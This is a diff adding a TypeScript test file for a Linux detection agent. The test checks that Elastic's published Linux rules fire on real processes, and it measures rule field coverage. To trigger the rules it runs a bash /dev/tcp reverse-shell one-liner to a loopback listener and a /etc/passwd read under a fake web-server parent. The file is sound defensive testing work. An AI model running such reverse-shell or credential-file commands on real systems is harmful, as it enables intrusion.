@@ -1,0 +1,168 @@
+// Issue 13 on the real kernel: Elastic's published Linux rules, copied from ../shared at test
+// time, raised by real processes through `nightjar run`; Defend's process fields on live execs;
+// how many process/network-only Linux EQL rules reference only fields the recording carries.
+
+import { copyFileSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:net';
+import { tmpdir } from 'node:os';
+import { execa } from 'execa';
+import { describe, expect, it } from 'vitest';
+import { getPath, type EcsDoc } from '../../src/ecs/ecs-event.js';
+import { parseRuleFile } from '../../src/rules/load-rules.js';
+import { startAgentProcess, type AgentHarness } from '../helpers/agent-harness.js';
+import { ecsProblems } from '../helpers/ecs-validate.js';
+import { skipKernel } from '../helpers/kernel-guard.js';
+import { corpusAbsent, DETECTION_RULES } from '../helpers/shared-corpus.js';
+
+const LINUX = DETECTION_RULES && `${DETECTION_RULES}/rules/linux`;
+if (!LINUX) corpusAbsent("Elastic's detection rules", 'NIGHTJAR_DETECTION_RULES', 'detection-rules');
+
+/** The rules triggered here, by file. */
+const TRIGGERED = [
+  'defense_evasion_hidden_file_dir_tmp.toml',
+  'execution_shell_via_background_process.toml',
+  'persistence_webserver_suspicious_command_execution.toml',
+  'discovery_proc_maps_read.toml',
+  'discovery_pam_version_discovery.toml',
+];
+const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
+const ruleName = (file: string) => /^name = "(.*)"$/m.exec(readFileSync(`${LINUX}/${file}`, 'utf8'))![1]!;
+
+function alerts(agent: AgentHarness): EcsDoc[] {
+  try {
+    return readFileSync(`${agent.dir}/alerts.ndjson`, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as EcsDoc);
+  } catch {
+    return [];
+  }
+}
+
+async function alertFor(agent: AgentHarness, name: string, marker: string, timeoutMs = 15000): Promise<EcsDoc | undefined> {
+  const t0 = Date.now();
+  while (Date.now() - t0 < timeoutMs) {
+    const hit = alerts(agent).find((a) => getPath(a, 'rule.name') === name && JSON.stringify(a).includes(marker));
+    if (hit) return hit;
+    await sleep(200);
+  }
+  return undefined;
+}
+
+/** Every field path an event carries (leaves and the objects above them). */
+function carried(events: EcsDoc[]): Set<string> {
+  const out = new Set<string>();
+  const walk = (o: unknown, prefix: string) => {
+    if (prefix) out.add(prefix);
+    if (typeof o !== 'object' || o === null || Array.isArray(o)) return;
+    for (const [k, v] of Object.entries(o)) walk(v, prefix ? `${prefix}.${k}` : k);
+  };
+  for (const e of events) walk(e, '');
+  return out;
+}
+
+/** Field references of a parsed query (any node of type 'field'), with their optional flag. */
+function referenced(node: unknown, out: Map<string, boolean>): Map<string, boolean> {
+  if (Array.isArray(node)) for (const n of node) referenced(n, out);
+  else if (typeof node === 'object' && node !== null) {
+    const n = node as { type?: string; path?: string[]; optional?: boolean };
+    if (n.type === 'field' && Array.isArray(n.path)) {
+      const p = n.path.join('.');
+      out.set(p, (out.get(p) ?? true) && !!n.optional);
+    } else for (const v of Object.values(node)) referenced(v, out);
+  }
+  return out;
+}
+
+function categories(node: unknown, out: Set<string>): Set<string> {
+  if (Array.isArray(node)) for (const n of node) categories(n, out);
+  else if (typeof node === 'object' && node !== null) {
+    const n = node as { where?: unknown; category?: string };
+    if ('where' in n && 'pos' in n) out.add(n.category ?? 'any');
+    for (const v of Object.values(node)) categories(v, out);
+  }
+  return out;
+}
+
+/** Process/network-only Linux EQL rules and which of them reference only fields in `have`. */
+function fieldCoverage(dir: string, have: Set<string>) {
+  const rows: { file: string; missing: string[]; missingRequired: string[] }[] = [];
+  for (const file of readdirSync(dir).filter((f) => f.endsWith('.toml')).sort()) {
+    const source = readFileSync(`${dir}/${file}`, 'utf8');
+    if (!/^language = "eql"$/m.test(source)) continue;
+    const { rule } = parseRuleFile(`${dir}/${file}`, source);
+    if (!rule) continue;
+    const cats = categories(rule.query, new Set());
+    if (![...cats].every((c) => c === 'process' || c === 'network')) continue;
+    const refs = referenced(rule.query, new Map());
+    const missing = [...refs.keys()].filter((f) => !have.has(f)).sort();
+    rows.push({ file, missing, missingRequired: missing.filter((f) => !refs.get(f)) });
+  }
+  return rows;
+}
+
+describe.skipIf(skipKernel || !LINUX)("Elastic's Linux rules, live", () => {
+  it('raise their alerts from real processes; live execs carry Defend fields; field coverage', async () => {
+    const rules = mkdtempSync(`${tmpdir()}/nightjar-elastic-rules-`);
+    for (const f of TRIGGERED) copyFileSync(`${LINUX}/${f}`, `${rules}/${f}`);
+    const agent = await startAgentProcess(['--rules', rules]);
+    const tag = `nj${process.pid}`;
+    const got: Record<string, boolean> = {};
+    try {
+      // a hidden file made from /tmp (process.working_directory)
+      await execa('touch', [`.${tag}-hidden`], { cwd: '/tmp' });
+      // a reverse shell over bash /dev/tcp to loopback, detached with setsid from a shell
+      const srv = createServer((s) => {
+        s.end('exit\n');
+      });
+      const port = await new Promise<number>((r) => srv.listen(0, '127.0.0.1', () => r((srv.address() as { port: number }).port)));
+      await execa('bash', ['-c', `setsid bash -c "bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1 # ${tag}"; true`], { reject: false, timeout: 10000 });
+      srv.close();
+      // a shell running a suspicious command under a web-server-named parent
+      const web = mkdtempSync(`${tmpdir()}/nightjar-web-`);
+      symlinkSync('/bin/bash', `${web}/nginx`);
+      await execa(`${web}/nginx`, ['-c', `sh -c "cat /etc/passwd >/dev/null # ${tag}"; true`]);
+      // memory maps read, PAM version query
+      await execa('cat', ['/proc/self/maps', `/dev/null/${tag}`], { reject: false });
+      await execa('dpkg-query', ['-W', 'libpam-modules', `${tag}`], { reject: false });
+      // a process on a pseudo-terminal (script allocates one) with a known cwd
+      await execa('script', ['-qc', `cd /tmp && /bin/true ${tag}-tty; true`, '/dev/null'], { stdout: 'ignore' });
+
+      for (const f of TRIGGERED) got[f] = (await alertFor(agent, ruleName(f), tag)) !== undefined;
+      expect(got).toEqual(Object.fromEntries(TRIGGERED.map((f) => [f, true])));
+
+      const ev = await agent.waitFor((e) => getPath(e, 'event.action') === 'exec' && ((getPath(e, 'process.args') as string[]) ?? []).includes(`${tag}-tty`));
+      expect(ev).toMatchObject({
+        user: { id: '0', name: 'root' }, group: { id: '0', name: 'root' },
+        process: {
+          working_directory: '/tmp', interactive: true, tty: { char_device: { major: 136 } },
+          user: { name: 'root' }, parent: { interactive: true },
+          session_leader: { same_as_process: false }, group_leader: { same_as_process: false },
+        },
+      });
+      // the shell's cwd when it exec'd (it cd'ed later): Defend's meaning, read at exec
+      expect(getPath(ev, 'process.parent.working_directory')).toBe(process.cwd());
+      expect(getPath(ev, 'process.thread.capabilities.effective')).toContain('CAP_SYS_ADMIN');
+      expect(getPath(ev, 'process.entry_leader.entry_meta.type')).toEqual(expect.any(String));
+      expect(getPath(ev, 'process.entry_leader.entity_id')).toEqual(expect.any(String));
+      expect(getPath(ev, 'process.session_leader.name')).toEqual(expect.any(String));
+    } finally {
+      await agent.stop();
+    }
+    const events = agent.events();
+    const problems = new Set(events.flatMap((e) => ecsProblems(e)));
+    expect([...problems]).toEqual([]);
+    writeFileSync(`${tmpdir()}/nightjar-elastic-live-events.path`, agent.eventsPath);
+
+    const rows = fieldCoverage(LINUX!, carried(events));
+    const ok = rows.filter((r) => r.missingRequired.length === 0).length;
+    const okStrict = rows.filter((r) => r.missing.length === 0).length;
+    const counts = new Map<string, number>();
+    for (const r of rows) for (const f of r.missingRequired) counts.set(f, (counts.get(f) ?? 0) + 1);
+    const summary = { rules: rows.length, coveredIgnoringOptional: ok, coveredStrict: okStrict, missing: [...counts].sort((a, b) => b[1] - a[1]) };
+    mkdirSync(`${tmpdir()}`, { recursive: true });
+    writeFileSync(`${tmpdir()}/nightjar-field-coverage.json`, JSON.stringify({ summary, rows }, null, 1));
+    console.log(`field coverage: ${JSON.stringify(summary)}`);
+    // 211 rules; not coverable by valid ECS process/network events (15): auditd.data.* (6, Auditd
+    // Manager), user.Ext.real.id / group.Ext.real.id (5, Defend's non-ECS extension), process.env_vars
+    // (3, needs an allow-list in the recording's agent), dns.question.name (1), process.Ext.load_module (1)
+    expect(ok).toBeGreaterThanOrEqual(196);
+  }, 120000);
+});
